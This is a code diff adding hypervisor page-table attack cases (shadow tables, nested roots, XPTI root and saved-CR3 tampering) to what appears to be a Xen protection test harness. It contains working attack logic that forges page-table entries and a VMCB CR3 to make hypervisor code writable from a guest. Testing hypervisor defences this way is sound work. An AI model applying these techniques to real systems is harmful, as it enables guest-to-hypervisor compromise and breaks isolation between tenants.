@@ -17,6 +17,7 @@
 #define HYPERCALL_MMU_UPDATE 1
 #define DOMID_SELF 0x7ff0
 #define VMCB_NESTED_ROOT 0xb0
+#define VMCB_CR3 0x550
 #define NESTED_ADDRESS (ATTACK_GUEST_FRAME << 12)
 
 /* The code that the proofs change: whoever calls it through attack_ops gets there. */
@@ -264,16 +265,18 @@ static char *far_page(void)
     return page;
 }
 
-/* Makes the second entry of a nested root lead to the victim. */
-static void add_nested(word root)
+/* Makes an entry of a root lead to the victim; mostly the second one. */
+static void add_at(word root, int slot)
 {
     word flags = ACCESSED_DIRTY | USER | WRITABLE | PRESENT, l3 = heap_pages(0), l2 = heap_pages(0), l1 = heap_pages(0);
 
     poke(l1, (physical(victim()) & FRAME_MASK) | flags);
     poke(l2, physical(l1) | flags);
     poke(l3, physical(l2) | flags);
-    poke(root + 8, physical(l3) | flags);
+    poke(root + 8 * slot, physical(l3) | flags);
 }
+
+static void add_nested(word root) { add_at(root, 1); }
 
 static void nested_entry(void)
 {
@@ -302,6 +305,63 @@ static void nested_mapping(void)
     use_guest_mapping(page);
 }
 
+/* ---- shadow tables ---- */
+
+static void shadow_entry(void)
+{
+    char *page = guest_page();
+    word root = fact(FACT_SHADOW_ROOT, 0);
+
+    poke(entry_at(root, (word)page, 12), (physical(victim()) & FRAME_MASK) | ACCESSED_DIRTY | USER | WRITABLE | PRESENT);
+    cause(CAUSE_RELOAD_CR3, 0);
+    use_guest_mapping(page);
+}
+
+/* The guest's own tables know nothing of the address. */
+static void shadow_root(void)
+{
+    word root = heap_pages(0);
+
+    copy_words(root, directmap_of(fact(FACT_SHADOW_ROOT, 0)), PAGE / 8);
+    add_nested(root);
+    poke(fact(FACT_VMCB, 0) + VMCB_CR3, physical(root));
+    use_guest_mapping((char *)NESTED_ADDRESS);
+}
+
+/* ---- the tables that a PV guest runs on with XPTI ---- */
+
+/* A slot that is Xen's, but not there: no guest's table is copied to it. */
+#define XPTI_SLOT 257
+
+static void xpti_root(void)
+{
+    on_cpu(0);
+    add_at(peek(per_cpu("root_pgt", 0)), XPTI_SLOT);
+    use_guest_mapping((char *)(0xffffUL << 48 | (word)XPTI_SLOT << 39));
+}
+
+static void *stay_in_guest(void *unused)
+{
+    on_cpu(1);
+    for ( ;; )
+        asm volatile ( "pause" );
+    return unused;
+}
+
+/* Only while a CPU runs its guest, this is what it goes back to. */
+static void xpti_entry(void)
+{
+    word at = peek(data("stack_base") + 8) + (fact(FACT_ENTRY_CR3, 0) & (stack_size() - 1)), root = root_with_changed("do_iret");
+    int i;
+
+    on_cpu(0);
+    start_on_other_cpu(stay_in_guest);
+    pause_ms(10);
+    for ( i = 0; i < 3000; i++ )
+        if ( peek(at) )
+            poke(at, root);
+}
+
 const struct attack paging_attacks[] = {
     { "entry-linear", "a page of code is made writable through the linear map of the page tables", entry_linear },
     { "entry-fresh-mapping", "a page of code is made writable through a fresh mapping of its page table", table_mapping },
@@ -315,8 +375,12 @@ const struct attack paging_attacks[] = {
     { "guest-entry", "an entry of a PV guest's page table maps code for the guest to write", guest_entry },
     { "guest-executable", "an entry of a PV guest's page table makes its page one of ring 0, which is called", guest_executable },
     { "guest-mapping", "a PV guest maps code, after the hypervisor's knowledge of that frame was changed", guest_mapping },
-    { "nested-entry", "the root of a PVH guest's nested page table leads to code for the guest to write", nested_entry, 1 },
-    { "nested-root", "what a PVH guest is run by names forged nested page tables", nested_root, 1 },
-    { "nested-mapping", "the hypervisor maps code into a PVH guest, by the number of a frame that was changed", nested_mapping, 1 },
+    { "nested-entry", "the root of a PVH guest's nested page table leads to code for the guest to write", nested_entry, "pvh" },
+    { "nested-root", "what a PVH guest is run by names forged nested page tables", nested_root, "pvh" },
+    { "nested-mapping", "the hypervisor maps code into a PVH guest, by the number of a frame that was changed", nested_mapping, "pvh" },
+    { "shadow-entry", "an entry of a shadow page table maps code for the guest to write", shadow_entry, "shadow" },
+    { "shadow-root", "what an HVM guest is run by names forged shadow page tables", shadow_root, "shadow" },
+    { "xpti-root", "the table that a PV guest runs on with XPTI leads to code for the guest to write", xpti_root, "xpti" },
+    { "xpti-entry", "the saved CR3 that an entry from the guest loads with XPTI becomes that of forged tables", xpti_entry, "xpti" },
     { 0 }
 };
